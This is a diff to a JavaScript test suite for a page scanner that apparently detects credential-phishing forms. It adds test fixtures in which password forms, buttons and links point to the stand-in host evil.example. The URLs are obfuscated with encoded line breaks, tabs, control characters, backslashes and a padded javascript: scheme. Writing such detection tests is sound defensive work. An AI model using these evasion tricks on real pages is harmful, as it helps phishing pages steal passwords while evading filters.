@@ -32,6 +32,11 @@ describe('scanPage', () => {
     expect([...resources]).toEqual(['c.png']);
   });
 
+  it('resolves addresses against a base as browsers read it', async () => {
+    const { links } = await scan('<base href=" ht&#10;tps://other.example/x/"><a href="a&#10;.html">');
+    expect([...links]).toEqual(['https://other.example/x/a.html']);
+  });
+
   it('collects what the page needs to look right', async () => {
     const { resources } = await scan(
       '<link rel=stylesheet href=a.css><link rel=canonical href=/me><img src="b.png"><a href=c.html></a><script src=d.js></script>',
@@ -57,6 +62,16 @@ describe('scanPage', () => {
     [
       'a link that is a script',
       '<input type=password><a href=" java&#10;script:location=\'https://evil.example\'">Go</a>',
+    ],
+    ['a line break in the scheme', '<form action="ht&#10;tps://evil.example/"><input type=password></form>'],
+    ['a control character before the scheme', '<form action="&#1; https://evil.example/"><input type=password></form>'],
+    ['a tab between two slashes', '<form action="/&#9;/evil.example/"><input type=password></form>'],
+    ['a line break between two backslashes', '<form action="\\&#13;\\evil.example/"><input type=password></form>'],
+    ['a tab in the address of a button', '<input type=password><button formaction="/&Tab;/evil.example">Go</button>'],
+    ['a tab in the scheme of a base', '<base href="h&Tab;ttps://evil.example/"><form><input type=password></form>'],
+    [
+      'a script behind a hundred spaces',
+      `<input type=password><a href="${' '.repeat(100)}j${'&#10;'.repeat(100)}avascript:open('//evil.example')">Go</a>`,
     ],
     [
       'a button outside its form',
